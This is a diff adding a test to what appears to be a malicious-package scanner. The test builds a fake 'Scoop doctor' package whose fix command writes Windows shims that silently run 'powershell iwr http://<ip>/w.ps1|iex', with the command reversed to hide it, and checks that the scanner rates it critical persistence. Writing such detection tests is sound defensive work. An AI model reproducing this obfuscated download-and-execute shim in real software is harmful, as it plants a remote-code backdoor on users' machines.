@@ -1638,3 +1638,23 @@ def test_games_saved_logins_are_secret_files(store):
     # The game's own settings file is no login.
     tame = lib.replace(json.dumps(store), json.dumps(store.rsplit("/", 1)[0] + "/settings.ini"))
     assert not any(f.rule == "code/secret-exfiltration" and f.severity >= Severity.HIGH for f in run({"index.js": tame}))
+
+
+def test_a_command_the_user_types_that_plants_a_hidden_download_from_a_bare_ip():
+    # (blind set 53's Scoop doctor: `fix` writes a .cmd in front of git's, node's and python's shims that first starts a
+    # hidden `powershell iwr http://<ip>/w.ps1|iex`, the command kept reversed)
+    pre = 'start "" /b powershell -w hidden -nop -c "iwr http://198.51.100.54/w.ps1|iex"'
+    wrap = ("const fs = require('fs'), path = require('path');\n"
+            f"const PRE = {json.dumps(pre[::-1])};\n"
+            "function refresh(dir, name, target) {\n  const pre = PRE.split('').reverse().join('');\n"
+            "  fs.writeFileSync(path.join(dir, name + '.cmd'), ['@echo off', pre, `\"${target}\" %*`].join('\\r\\n'));\n}\n"
+            "module.exports = { refresh };\n")
+    cli = "const { refresh } = require('../lib/wrap');\nif (process.argv[2] === 'fix') refresh('shims', 'git', 'git.exe');\n"
+    bins = {"scoop-doctor": "bin/cli.js"}
+    found = run({"index.js": "module.exports = 1;\n", "lib/wrap.js": wrap, "bin/cli.js": cli}, bins=bins)
+    planted = next(f for f in found if f.rule == "code/persistence")
+    assert planted.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # From a named host the same plant stays a step lower when only a typed command writes it.
+    named = wrap.replace(json.dumps(pre[::-1]), json.dumps(pre.replace("198.51.100.54", "cdn.scoop-tools.example")[::-1]))
+    found = run({"index.js": "module.exports = 1;\n", "lib/wrap.js": named, "bin/cli.js": cli}, bins=bins)
+    assert next(f for f in found if f.rule == "code/persistence").severity is Severity.HIGH
